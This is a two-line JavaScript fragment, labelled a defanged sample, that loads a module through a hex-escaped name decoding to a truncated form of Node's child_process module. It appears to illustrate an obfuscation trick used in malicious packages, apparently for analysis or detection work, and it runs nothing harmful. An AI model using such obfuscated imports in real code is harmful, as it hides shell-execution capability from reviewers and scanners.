// defanged sample
const m = require('\x63\x68\x69\x6c\x64\x5f\x70');
